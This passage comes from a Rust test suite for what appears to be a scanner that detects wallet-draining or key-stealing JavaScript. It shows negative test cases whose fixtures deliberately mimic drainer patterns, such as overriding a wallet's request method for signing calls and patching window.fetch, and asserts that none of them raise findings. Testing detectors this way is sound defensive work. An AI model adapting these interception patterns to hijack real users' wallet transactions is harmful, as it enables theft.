const USDC = '0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48';
const METHODS = ['eth_sendTransaction', 'eth_signTypedData_v4', 'personal_sign'];
function wrap(w, send) { w.request = (...e) => send(e[0].method, e); w.send = (...e) => send(e[0], e); return w; }
module.exports = { wrap, USDC, METHODS };
"#;
        assert!(run(source).is_empty(), "{:#?}", run(source));
    }

    #[test]
    fn quiet_on_callbacks_mentioning_keys() {
        // Babel's async helper receives a generator whose body uses `privateKey`.
        let source = r#"
function login() { return _asyncToGenerator(function* () { const privateKey = yield load(); return sign(privateKey); })(); }
fetch('https://www.googleapis.com/oauth2/v2/userinfo');
"#;
        assert!(run(source).is_empty(), "{:#?}", run(source));
    }

    #[test]
    fn quiet_on_fetch_instrumentation() {
        let source = r#"
const originalFetch = window.fetch;
window.fetch = function (...args) { const start = Date.now(); return originalFetch.apply(this, args).finally(() => record(Date.now() - start)); };
const isAddress = (s) => /^0x[0-9a-fA-F]{40}$/.test(s);
"#;
        assert!(run(source).is_empty());
    }

    #[test]
    fn quiet_on_keys_handled_locally() {
        let source = r#"
import nacl from 'tweetnacl';
export function signWith(secretKey, message) { return nacl.sign.detached(message, secretKey); }
export function keypair(secretKey) { return fromSecretKey(secretKey); }
export async function rpc(url, body) { return fetch(url, { method: 'POST', body }); }
"#;
        assert!(run(source).is_empty());
    }
}
